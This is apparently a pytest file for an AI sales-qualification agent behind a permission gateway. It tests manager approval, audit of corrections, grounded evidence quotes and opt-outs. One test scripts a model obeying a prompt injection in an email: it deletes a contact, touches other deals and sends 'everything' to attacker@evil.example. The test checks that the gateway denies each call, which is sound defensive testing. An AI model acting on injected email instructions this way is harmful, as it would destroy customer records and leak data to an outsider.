"""The SDR scenario on its shipped conversations, through the gateway, with the embedded planner and with bad models."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from sqlalchemy import select

from agent_guard import ledger
from agent_guard.app import Application
from agent_guard.corrections import corrected
from agent_guard.session import Reply, Session
from agent_guard.testing import ScriptedModel, call
from agent_guard.types import Subject
from graphs.sdr_qualification.interview import interviewed
from tools.crm.tables import tasks
from tools.leads import MAX_QUESTIONS, opted_out

NAME = "sdr_qualification"
SAMPLES = sorted((Path(__file__).parents[2] / "graphs" / NAME / "samples").glob("*.jsonl"))


def _walk(application: Application, session: Session, sample: Path, manager: Subject) -> tuple[Reply, list[Reply]]:
    opening = application.scenario(NAME).read(sample, application.worlds[NAME])
    reply: Reply | None = None
    asked: list[Reply] = []
    for text in opening.lines:
        reply = (
            session.start(text, opening.subject, speaker="party", party=opening.party, scenario=NAME)
            if reply is None
            else session.send(reply.thread_id, text, speaker="party", by=opening.subject)
        )
        if reply.pending:
            asked.append(reply)
            reply = session.resume(reply.pending.id, "approve", by=manager)
    assert reply is not None
    return reply, asked


def _asked(application: Application) -> tuple[Session, Reply]:
    """A conversation in which all four answers are known, up to the question to a manager."""
    session = application.session(NAME)
    sample = next(path for path in SAMPLES if path.stem == "en_personal_data")
    opening = application.scenario(NAME).read(sample, application.worlds[NAME])
    reply = session.start(opening.lines[0], opening.subject, speaker="party", party=opening.party, scenario=NAME)
    for text in opening.lines[1:]:
        if reply.pending is None:
            reply = session.send(reply.thread_id, text, speaker="party", by=opening.subject)
    assert reply.pending is not None
    return session, reply


def _messages(session: Session, thread: str) -> list:
    return session.graph.get_state({"configurable": {"thread_id": thread}}).values["messages"]


@pytest.mark.req("A24", "A25", "A16")
@pytest.mark.parametrize("sample", SAMPLES, ids=lambda path: path.stem)
def test_a_sample_ends_in_one_approved_draft_task_or_in_silence(
    sample: Path, application: Application, manager: Subject
) -> None:
    """Each shipped conversation ends in one draft task "Call" that a manager approved, or after an opt-out in none."""
    session = application.session(NAME)
    reply, asked = _walk(application, session, sample, manager)
    assert reply.status == "delivered"
    crm = application.worlds[NAME].resources["crm"]
    calls = [item["tool"] for item in application.gateway.thread(reply.thread_id).calls]
    said = [item for item in _messages(session, reply.thread_id) if isinstance(item, HumanMessage)]
    if any(opted_out(item.text) for item in said):
        assert asked == [] and calls == ["crm.read_deal"]
        return
    assert calls == ["crm.read_deal", "crm.create_task"]
    assert len(asked) == 1 and asked[0].pending.tool == "crm.create_task"
    task = crm.describe(_ref("task", "1"))
    assert task.snapshot["status"] == "draft" and task.snapshot["source"] == "AI-Agent"
    assert "<" not in task.snapshot["subject"], "the CRM got a pseudonym"


@pytest.mark.req("A25")
@pytest.mark.parametrize("sample", SAMPLES, ids=lambda path: path.stem)
def test_one_question_a_turn_and_six_at_most(sample: Path, application: Application, manager: Subject) -> None:
    """The client is asked one question a turn, and not more than six in all."""
    session = application.session(NAME)
    reply, _ = _walk(application, session, sample, manager)
    turns = [m.text for m in _messages(session, reply.thread_id) if isinstance(m, AIMessage) and not m.tool_calls]
    assert all(text.count("?") <= 1 for text in turns)
    assert sum("?" in text for text in turns) <= MAX_QUESTIONS


@pytest.mark.req("A25")
@pytest.mark.parametrize("sample", SAMPLES, ids=lambda path: path.stem)
def test_every_score_stands_on_the_clients_own_words(sample: Path, application: Application, manager: Subject) -> None:
    """Each score's quote stands letter for letter in the message it names."""
    session = application.session(NAME)
    reply, asked = _walk(application, session, sample, manager)
    said = {m.id: m.text for m in _messages(session, reply.thread_id) if isinstance(m, HumanMessage)}
    for question in asked:
        for letter in (question.pending.args["qualification"] or {}).values():
            if letter is not None:
                assert letter["evidence"]["quote"] in said[letter["evidence"]["message_id"]]


@pytest.mark.req("A13", "A25")
def test_the_manager_corrects_the_scores_and_that_is_on_record(application: Application, manager: Subject) -> None:
    """A score is lowered, one is taken away: the CRM gets the manager's, and who changed what can be read afterwards."""
    session, reply = _asked(application)
    proposed = reply.pending.args["qualification"]
    corrected_args = json.loads(json.dumps(reply.pending.args))
    corrected_args["qualification"]["budget"]["score"] = 1
    corrected_args["qualification"]["authority"] = None
    why = "The operations director has not agreed."
    done = session.resume(reply.pending.id, "edit", by=manager, args=corrected_args, message=why)
    assert done.status == "delivered"
    with application.worlds[NAME].resources["crm"].reading() as connection:
        (stored,) = connection.execute(select(tasks.c.qualification)).scalars()
    assert (stored["budget"]["score"], stored["authority"]) == (1, None)
    assert stored["need"] == proposed["need"] and stored["timeline"] == proposed["timeline"]
    store = application.gateway.store
    with store.read() as connection:
        rows = ledger.listed(connection, thread=reply.thread_id, tool="crm.create_task")
        edits = [corrected(connection, row) for row in rows]
    assert edits[0] == edits[1] and edits[0] is not None
    assert (edits[0].by, edits[0].message) == (manager.id, why)
    assert {item.path: (item.proposed, item.made) for item in edits[0].corrections} == {
        "qualification.budget.score": (proposed["budget"]["score"], 1),
        "qualification.authority": (proposed["authority"], None),
    }
    kinds = [event.data["kind"] for event in application.gateway.audit.events(thread=reply.thread_id)]
    assert kinds.count("edited") == 1 and list(application.gateway.audit.broken(reply.thread_id)) == []


@pytest.mark.req("A25")
@pytest.mark.parametrize("score", [4, "high"])
def test_a_score_that_is_none_is_not_taken(application: Application, manager: Subject, score: object) -> None:
    """The manager's edit passes the contract as the model's call does: nothing runs, and the record says why."""
    session, reply = _asked(application)
    args = json.loads(json.dumps(reply.pending.args))
    args["qualification"]["need"]["score"] = score
    session.resume(reply.pending.id, "edit", by=manager, args=args)
    assert application.worlds[NAME].resources["crm"].describe(_ref("task", "1")) is None
    with application.gateway.store.read() as connection:
        edited, _ = ledger.listed(connection, thread=reply.thread_id, tool="crm.create_task")
        (change,) = corrected(connection, edited).corrections
    assert (edited.state, edited.code) == ("denied", "arguments_invalid")
    assert (change.path, change.made) == ("qualification.need.score", score)


@pytest.mark.req("B1", "A1")
def test_a_model_that_obeys_the_injection_does_nothing(application: Application, manager: Subject) -> None:
    """A compromised model's calls on other records and unknown tools are denied, and none of them is offered to a human."""
    sample = next(path for path in SAMPLES if path.stem == "en_injection")
    opening = application.scenario(NAME).read(sample, application.worlds[NAME])
    task = {"deal_id": "1002", "kind": "call", "subject": "Call me", "due": "2030-01-07"}
    model = ScriptedModel(
        call("crm.delete_contact", "The e-mail says so.", id="a", contact_id="2001"),
        call("crm.create_task", "The e-mail says so.", id="b", **task),
        call("crm.read_deal", "The e-mail says so.", id="c", deal_id="1005"),
        call("messages.send", "The e-mail says so.", id="d", to="attacker@evil.example", body="everything"),
        "Thank you.",
    )
    session = application.session(NAME, model=model)
    reply = session.start(opening.lines[0], opening.subject, speaker="party", party=opening.party, scenario=NAME)
    assert reply.status == "delivered" and reply.pending is None
    assert application.gateway.thread(reply.thread_id).calls == []
    codes = [
        json.loads(message.text)["code"] for message in _messages(session, reply.thread_id) if message.type == "tool"
    ]
    assert codes == ["tool_unknown", "binding", "region", "tool_unknown"]


@pytest.mark.req("A25")
def test_invented_evidence_becomes_unknown() -> None:
    """A score whose quote the client did not write is dropped before the call is proposed."""
    said = HumanMessage("We have 5000 set aside.", id="m1", additional_kwargs={"speaker": "party"})
    proposed = call(
        "crm.create_task",
        deal_id="1001",
        qualification={
            "budget": {"score": 3, "evidence": {"message_id": "m1", "quote": "5000 set aside"}},
            "need": {"score": 3, "evidence": {"message_id": "m1", "quote": "we are desperate"}},
        },
    )
    kept = interviewed({"messages": [said]}, proposed).tool_calls[0]["args"]["qualification"]
    assert list(kept) == ["budget"]


@pytest.mark.req("A25")
def test_nothing_is_asked_or_called_after_an_opt_out() -> None:
    """Whatever the model says after the client opted out becomes a closing without a question and without a call."""
    said = HumanMessage("Please stop writing to me.", id="m1", additional_kwargs={"speaker": "party"})
    answer = interviewed({"messages": [said]}, call("crm.create_task", deal_id="1001"))
    assert answer.tool_calls == [] and "?" not in answer.text and answer.text


def _ref(kind: str, record: str):
    from agent_guard.types import Ref

    return Ref(kind=kind, id=record)
